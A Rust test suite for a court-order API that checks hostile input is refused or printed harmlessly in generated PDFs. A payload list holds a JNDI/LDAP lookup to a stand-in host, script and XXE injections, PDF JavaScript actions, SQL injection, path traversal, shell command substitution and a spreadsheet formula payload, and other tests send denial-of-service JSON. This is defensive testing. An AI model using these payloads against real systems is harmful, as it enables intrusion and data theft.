//! What an enemy sends: each value is refused by name or printed as it stands and does nothing.
//! Nothing is stored, nothing fails.

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use spo::http::Limits;

use crate::harness::{TestApp, full, interim, problem_names, rules, said, set};

/// Text that reads otherwise than it was approved, or that no page can show. Reliability, threat 4.
const UNPRINTABLE: &[(&str, &str)] = &[
    ("right-to-left override", "\u{202e}"),
    ("left-to-right isolate", "\u{2066}"),
    ("zero-width space", "\u{200b}"),
    ("zero-width joiner between Latin letters", "\u{200d}"),
    ("zero-width no-break space", "\u{feff}"),
    ("word joiner", "\u{2060}"),
    ("soft hyphen", "\u{ad}"),
    ("null", "\0"),
    ("delete", "\u{7f}"),
    ("next line", "\u{85}"),
    ("carriage return", "\r"),
    ("line feed", "\n"),
    ("tab", "\t"),
    ("line separator", "\u{2028}"),
    ("paragraph separator", "\u{2029}"),
    ("variation selector", "\u{fe0f}"),
    ("variation selector supplement", "\u{e0100}"),
    ("tag letter", "\u{e0041}"),
    ("private use", "\u{e000}"),
    ("private use, plane 16", "\u{10fffd}"),
    ("unassigned", "\u{378}"),
    ("noncharacter", "\u{fffe}"),
    ("replacement character", "\u{fffd}"),
    ("overlay mark", "\u{336}"),
    ("enclosing mark", "\u{20dd}"),
    ("a heap of marks", "\u{301}\u{302}\u{303}\u{304}\u{305}"),
    ("Arabic digit", "\u{663}"),
    ("full-width digit", "\u{ff13}"),
];

/// Text that something on the road might take for its own. Reliability, threats 17 and 20.
const INERT: &[&str] = &[
    "{{respondent.name}}",
    "{{{this}}}",
    "{{> partial}} {{#each terms}}x{{/each}}",
    "{{!-- comment --}}",
    "${jndi:ldap://x.example/a} #{7*7} <%= 7*7 %>",
    "<script>alert(1)</script>",
    "<page-break/>",
    "</p></term><term number=\"P99\"><p>Anything.</p></term>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&amp; &lt; &#65; &nbsp;",
    "]]> <![CDATA[ x ]]>",
    ") Tj ET Q BT (Other words",
    "endstream endobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
    "<< /Type /Action /S /URI /URI (https://x.example) >>",
    "%PDF-1.7 %%EOF startxref 0",
    "back\\slash \\n \\051 \\x41",
    "'; DROP TABLE orders; --",
    "../../../../etc/passwd",
    "$(id) `id` | id ; id",
    "%s%n%x %00 %0d%0aX-Evil: 1",
    "=cmd|' /C calc'!A0",
    "\"quoted\" 'single' O\u{2019}Neill & Sons",
];

/// Every text of a request with its pointer, those apart whose form is fixed.
fn texts(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(at.to_owned()),
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                texts(item, &format!("{at}/{index}"), found);
            }
        }
        Value::Object(fields) => {
            for (name, field) in fields {
                texts(field, &format!("{at}/{name}"), found);
            }
        }
        _ => {}
    }
}

#[tokio::test]
async fn every_text_field_refuses_by_name_what_no_page_can_show() {
    let app = TestApp::start().await;
    let mut fields = Vec::new();
    texts(&full(), "", &mut fields);
    assert!(fields.len() > 40, "{fields:?}");
    for (index, field) in fields.iter().enumerate() {
        let was = full().pointer(field).unwrap().as_str().unwrap().to_owned();
        // Each field meets several values, each value several fields.
        for step in 0..4 {
            let (name, sign) = UNPRINTABLE[(index * 4 + step) % UNPRINTABLE.len()];
            let request = set(full(), field, format!("{was}{sign}x").into());
            let reply = app.post("/v1/validations/full-orders", &request).send().await;
            let errors = reply.expect(200).json()["errors"].clone();
            let faults = errors.as_array().unwrap();
            let here = faults.iter().any(|fault| {
                let pointer = fault["pointer"].as_str().unwrap();
                field.starts_with(pointer) || pointer.starts_with(field.as_str())
            });
            assert!(here, "{name} at {field}: {errors}");
        }
    }
}

#[tokio::test]
async fn each_unprintable_character_is_named_by_its_code_point() {
    let app = TestApp::start().await;
    for (name, sign) in UNPRINTABLE {
        for pointer in ["/respondent/family_name", "/hearing/bench"] {
            let request = set(interim(), pointer, format!("Sam{sign}ple").into());
            let reply = app.post("/v1/interim-orders", &request).key("k").send().await.expect(422);
            let refused = rules(&reply);
            let expected = ("unprintable_character".to_owned(), pointer.to_owned());
            assert!(refused.contains(&expected), "{name} at {pointer}: {refused:?}");
            assert!(!reply.text().contains(sign), "{name} is echoed");
        }
    }
    assert_eq!(app.count_orders().await, 0);
}

#[tokio::test]
async fn text_of_white_space_alone_is_refused() {
    let app = TestApp::start().await;
    for blank in ["", " ", "   ", "\u{a0}", "\u{3000}"] {
        let request = set(interim(), "/hearing/bench", blank.into());
        let reply = app.post("/v1/interim-orders", &request).key("k").send().await.expect(422);
        let here = rules(&reply).iter().any(|(_, pointer)| pointer == "/hearing/bench");
        assert!(here, "{blank:?}: {}", reply.text());
    }
}

#[tokio::test]
async fn text_that_looks_like_a_programme_is_printed_as_it_stands() {
    let app = TestApp::start().await;
    for text in INERT {
        let term = json!({ "text": format!("Not to write {text} to A."), "necessity": "Wrote." });
        let request = set(interim(), "/prohibitions/9", term);
        let request = set(request, "/hearing/bench", (*text).into());
        let reply = app.post("/v1/previews/interim-orders", &request).pdf().send().await;
        if reply.status == 422 {
            let named = rules(&reply);
            let ours = |(_, pointer): &(String, String)| {
                pointer == "/hearing/bench" || pointer.starts_with("/prohibitions/4")
            };
            assert!(!named.is_empty() && named.iter().all(ours), "{text}: {named:?}");
            continue;
        }
        let reply = reply.expect(200);
        let read = said(&reply.body);
        let plain = |text: &str| text.split_whitespace().collect::<String>();
        let said = plain(&read.content);
        assert!(said.contains(&plain(text)), "{text} is not printed as it stands");
        let file = String::from_utf8_lossy(&reply.body).into_owned();
        for dangerous in ["/JavaScript", "/Launch", "/OpenAction", "/AA", "/URI", "/EmbeddedFile"] {
            let mark = format!("/S {dangerous}");
            assert!(!file.contains(&mark), "{text}: {dangerous}");
        }
    }
    assert_eq!(app.count_orders().await, 0);
}

#[tokio::test]
async fn hostile_shapes_are_refused_quickly_and_stored_nowhere() {
    let app = TestApp::start().await;
    let deep = |open: &str, count: usize| open.repeat(count).into_bytes();
    let many = |part: &str, count: usize| vec![part; count].join(",");
    let nest = |count: usize| format!("{}1{}", "[".repeat(count), "]".repeat(count));
    let case = |inner: String| format!("{{\"case\":{inner}}}");
    let sample = serde_json::to_string(&interim()).unwrap();
    let bodies: Vec<(&str, Vec<u8>)> = vec![
        ("100,000 arrays", deep("[", 100_000)),
        ("100,000 objects", deep("{\"a\":", 100_000)),
        ("100,000 arrays, closed", [deep("[", 100_000), deep("]", 100_000)].concat()),
        ("depth in a field", case(nest(5000)).into()),
        ("a key twice", sample.replacen("\"case\"", "\"case\":{},\"case\"", 1).into()),
        ("a key twice, escaped", {
            sample.replacen("\"case\"", "\"\\u0063ase\":{},\"case\"", 1).into()
        }),
        ("a huge exponent", b"{\"made_on\":1e999999999}".to_vec()),
        ("a huge number", format!("{{\"made_on\":{}}}", "9".repeat(100_000)).into()),
        ("many decimals", format!("{{\"made_on\":0.{}}}", "1".repeat(100_000)).into()),
        ("not a number", b"{\"made_on\":NaN}".to_vec()),
        ("a lone surrogate", b"{\"made_on\":\"\\ud800\"}".to_vec()),
        ("a null in a key", b"{\"ca\\u0000se\":1}".to_vec()),
        ("bytes that are no text", b"{\"case\":\"\xff\xfe\"}".to_vec()),
        ("an overlong slash", b"{\"case\":\"\xc0\xaf\"}".to_vec()),
        ("a byte order mark", [b"\xef\xbb\xbf".to_vec(), sample.clone().into()].concat()),
        ("UTF-16", sample.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("words behind", format!("{sample} {sample}").into()),
        ("a comment", format!("/* x */ {sample}").into()),
        ("a prototype", b"{\"__proto__\":{\"x\":1},\"constructor\":1}".to_vec()),
        ("100,000 items", format!("{{\"prohibitions\":[{}]}}", many("1", 100_000)).into()),
        ("many empty terms", format!("{{\"prohibitions\":[{}]}}", many("{}", 100_000)).into()),
        ("many aliases", {
            format!("{{\"respondent\":{{\"aliases\":[{}]}}}}", many("\"a\"", 90_000)).into()
        }),
        ("many unknown fields", {
            let fields: Vec<String> = (0..40_000).map(|n| format!("\"f{n}\":{n}")).collect();
            format!("{{{}}}", fields.join(",")).into()
        }),
        ("a name of a megabyte", {
            case(format!("{{\"reference\":\"{}\"}}", "x".repeat(1_000_000))).into()
        }),
        ("nothing but text", b"\"interim\"".to_vec()),
        ("null", b"null".to_vec()),
    ];
    for (name, body) in bodies {
        let started = Instant::now();
        let call = app.call("POST", "/v1/interim-orders").bytes(body);
        let reply = call.header("content-type", "application/json").key("k").send().await;
        assert!(matches!(reply.status, 400 | 422), "{name}: {} {}", reply.status, reply.text());
        assert!(reply.body.len() < 512 * 1024, "{name}: an answer of {} bytes", reply.body.len());
        // A debug build on a busy machine; the deep run holds a release build to one second.
        assert!(started.elapsed() < Duration::from_secs(15), "{name}: {:?}", started.elapsed());
    }
    assert_eq!(app.count_orders().await, 0);
    app.get("/health/ready").send().await.expect(200);
}

#[tokio::test]
async fn deep_and_doubled_json_is_named_not_just_refused() {
    let app = TestApp::start().await;
    let deep = format!("{{\"case\":{}1{}}}", "[".repeat(200), "]".repeat(200));
    let twice = "{\"case\":{\"reference\":\"a\",\"reference\":\"b\"}}".to_owned();
    for (body, rule) in [(deep, "too_deep"), (twice, "duplicate_key")] {
        let call = app.call("POST", "/v1/interim-orders").bytes(body).key("k");
        let reply = call.header("content-type", "application/json").send().await.expect(422);
        assert!(rules(&reply).iter().any(|(named, _)| named == rule), "{rule}: {}", reply.text());
    }
}

#[tokio::test]
async fn a_value_of_every_wrong_type_is_refused_in_every_field() {
    let app = TestApp::start().await;
    let mut fields = Vec::new();
    texts(&interim(), "", &mut fields);
    let wrong = json!([null, 1e308, -1, [], {}, true, [["x"]]]);
    let wrong = wrong.as_array().unwrap();
    for (index, field) in fields.iter().enumerate() {
        let value = &wrong[index % wrong.len()];
        let request = set(interim(), field, value.clone());
        let reply = app.post("/v1/interim-orders", &request).key("k").send().await.expect(422);
        assert!(!rules(&reply).is_empty(), "{field} = {value}");
    }
    assert_eq!(app.count_orders().await, 0);
}

#[tokio::test]
async fn a_confidential_value_in_a_printed_field_is_refused_and_not_repeated() {
    let app = TestApp::start().await;
    let spellings = [
        "at 17 Hidden Haven, Otley",
        "17 HIDDEN HAVEN otley",
        "near ZZ99 7WZ",
        "near zz997wz",
        "call 07700900123",
        "call +44 7700 900 123",
        "write to sian@mail.example",
        "Sunnybank Infant School",
        "\u{ff33}unnybank Infant School",
    ];
    for text in spellings {
        let term = json!({ "text": format!("Not to go {text}."), "necessity": "Went there." });
        let request = set(interim(), "/prohibitions/9", term);
        // The harness holds every answer against the values themselves.
        let reply = app.post("/v1/interim-orders", &request).key("k").send().await.expect(422);
        let found = rules(&reply);
        let named = found.iter().any(|(rule, pointer)| {
            rule == "confidential_value_disclosed" && pointer.starts_with("/prohibitions/4")
        });
        assert!(named, "{text}: {found:?}");
    }
    assert_eq!(app.count_orders().await, 0);
}

#[tokio::test]
async fn no_text_field_takes_a_confidential_value_in_silence() {
    let app = TestApp::start().await;
    let acknowledged = json!([
        { "rule": "many_terms", "pointer": "/prohibitions", "reason": "All were argued." },
    ]);
    let existing = json!([{ "description": "an order of 2025", "compatible": true }]);
    let whole = set(set(full(), "/acknowledged", acknowledged), "/existing_orders", existing);
    let mut fields = Vec::new();
    texts(&whole, "", &mut fields);
    // The one names no person; what is kept apart is what is searched for.
    let apart = ["/acknowledged/0/rule", "/acknowledged/0/pointer", "/necessity", "/confidential/"];
    fields.retain(|field| !apart.iter().any(|part| field.contains(part)));
    fields.retain(|field| field != "/protected_persons/0/name");
    let mut disclosed = 0;
    for field in &fields {
        let request = set(whole.clone(), field, "by 8 Secret Court".into());
        let reply = app.post("/v1/validations/full-orders", &request).send().await.expect(200);
        let errors = reply.json()["errors"].clone();
        let here = errors.as_array().unwrap().iter().filter(|fault| {
            let pointer = fault["pointer"].as_str().unwrap();
            field.starts_with(pointer) || pointer.starts_with(field.as_str())
        });
        let rules: Vec<&str> = here.map(|fault| fault["rule"].as_str().unwrap()).collect();
        assert!(!rules.is_empty(), "{field}: {errors}");
        disclosed += usize::from(rules.contains(&"confidential_value_disclosed"));
    }
    assert!(disclosed > 20, "{disclosed} of {}", fields.len());
}

#[tokio::test]
async fn names_with_marks_and_apostrophes_of_real_people_are_taken() {
    let app = TestApp::start().await;
    for name in ["O\u{2019}Neill-\u{174}yn", "Nguy\u{1ec5}n", "D'Ath & Sons", "\u{c5}ngstr\u{f6}m"]
    {
        let request = set(interim(), "/respondent/family_name", name.into());
        let reply = app.post("/v1/previews/interim-orders", &request).pdf().send().await;
        if reply.status == 422 {
            panic!("{name}: {} {:?}", problem_names(&reply), rules(&reply));
        }
        let read = said(&reply.expect(200).body);
        assert!(read.content.contains(name), "{name}: {}", read.content);
    }
}

#[tokio::test]
async fn names_spelt_with_joiners_are_printed_as_they_are_spelt() {
    let app = TestApp::start().await;
    for name in ["می\u{200c}خواهم", "ক্\u{200d}ষ", "ਗ\u{200c}ਰ", "क्\u{200d}ष", "க்\u{200c}ஷ"]
    {
        let request = set(interim(), "/respondent/given_names", name.into());
        let reply = app
            .post("/v1/interim-orders", &request)
            .key(&name.escape_unicode().to_string())
            .pdf()
            .send()
            .await;
        let pdf = reply.expect(201).body;
        assert!(said(&pdf).content.contains(name), "{}", name.escape_unicode());
    }
}

#[tokio::test]
async fn a_request_of_endless_faults_gets_a_short_answer_and_holds_nobody_up() {
    let app = TestApp::with(Limits { workers: 1, ..Limits::default() }).await;
    let snow = vec!["\u{2603}"; 170_000];
    let mut aliases = interim();
    aliases["respondent"]["aliases"] = json!(snow);
    let bodies = [json!({ "x": snow }), aliases, json!(snow)];
    let path = |index: usize| {
        ["/v1/interim-orders", "/v1/validations/interim-orders", "/v1/variation-requests"][index]
    };
    for body in bodies {
        assert!(body.to_string().len() <= 1 << 20);
        for index in 0..3 {
            let key = format!("k{index}");
            let sending = app.post(path(index), &body).key(&key).send();
            let asking = async {
                tokio::time::sleep(Duration::from_millis(100)).await;
                let started = Instant::now();
                app.get("/health/live").send().await.expect(200);
                started.elapsed()
            };
            let (reply, took) = tokio::join!(sending, asking);
            let status = if index == 1 { 200 } else { 422 };
            let reply = reply.expect(status);
            assert!(reply.body.len() < 1 << 20, "{} bytes", reply.body.len());
            let named = |list: &str| reply.json()[list].as_array().map_or(0, Vec::len);
            assert!((1..=500).contains(&(named("errors") + named("warnings"))));
            assert!(took < Duration::from_secs(5), "{took:?}");
        }
    }
}
